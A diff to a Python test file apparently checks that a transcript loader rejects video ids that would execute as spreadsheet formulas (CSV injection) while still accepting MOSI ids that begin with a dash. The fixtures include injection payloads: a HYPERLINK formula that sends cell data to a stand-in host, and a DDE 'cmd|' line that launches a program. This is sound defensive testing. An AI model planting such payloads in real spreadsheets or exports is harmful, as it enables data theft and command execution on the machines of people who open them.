@@ -338,20 +338,27 @@ def test_transcript_errors_are_one_line(tmp_path):
 
 def test_an_id_a_spreadsheet_would_run_as_a_formula_is_refused_and_a_dash_is_not(tmp_path):
     """Ids reach predictions.csv as they are: '=HYPERLINK(...)' or '+cmd|...' in its first column is a formula to a
-    spreadsheet that opens it (CSV injection). '-' starts MOSI's YouTube ids and stays allowed."""
+    spreadsheet that opens it (CSV injection). '-' starts MOSI's YouTube ids and stays allowed before letters, digits
+    and _.$- (MMSA's 'video$_$clip'); '-HYPERLINK(...)' or '-2+3+cmd|...' were accepted, and ran as formulas."""
     import csv
-    for i, video_id in enumerate(["=1+2", "+cmd", "@SUM(A1)", "\tx", "\rx"]):
+    refused = {"=1+2": "starts with '='", "+cmd": "starts with '+'", "@SUM(A1)": "starts with '@'",
+               "\tx": "starts with '\\t'", "\rx": "starts with '\\r'",
+               '-HYPERLINK("http://x.example/?"&A1)': "starts with '-' and holds '('",
+               "-2+3+cmd|' -c calc'!A0": "starts with '-' and holds '+'", "-a b": "starts with '-' and holds ' '",
+               "-caf\u00e9": "starts with '-' and holds '\u00e9'"}
+    for i, (video_id, which) in enumerate(refused.items()):
         path = tmp_path / f"f{i}.csv"
         with open(path, "w", newline="", encoding="utf-8") as f:
             csv.writer(f).writerows([["id", "text"], ["ok1", "a"], [video_id, "b"]])
         with pytest.raises(DataError) as error:
             read_transcripts(path)
-        assert str(error.value) == (f"{path}: line 3 has the id {video_id!r}, which starts with {video_id[0]!r}: a "
-                                    f"spreadsheet would run it as a formula in predictions.csv; rename the video and "
-                                    f"its id so that it starts with another character ('-' is fine)")
+        assert str(error.value) == (f"{path}: line 3 has the id {video_id[:40]!r}, which {which}: a spreadsheet would "
+                                    f"run it as a formula in predictions.csv; rename the video and its id so that it "
+                                    f"starts with a letter or a digit (after '-' only letters, digits and _.$- are "
+                                    f"fine, as in MOSI's ids)")
     path = tmp_path / "mosi.csv"
-    path.write_text("id,text\n-3g5yACwYnA_1,a\nok=+@,b\n")
-    assert read_transcripts(path).id.tolist() == ["-3g5yACwYnA_1", "ok=+@"]
+    path.write_text("id,text\n-3g5yACwYnA_1,a\nok=+@,b\n-_9.mp4-x,c\n-3g5yACwYnA$_$2,d\n")
+    assert read_transcripts(path).id.tolist() == ["-3g5yACwYnA_1", "ok=+@", "-_9.mp4-x", "-3g5yACwYnA$_$2"]
 
 
 def test_split_ratios_are_seeded_and_exact():
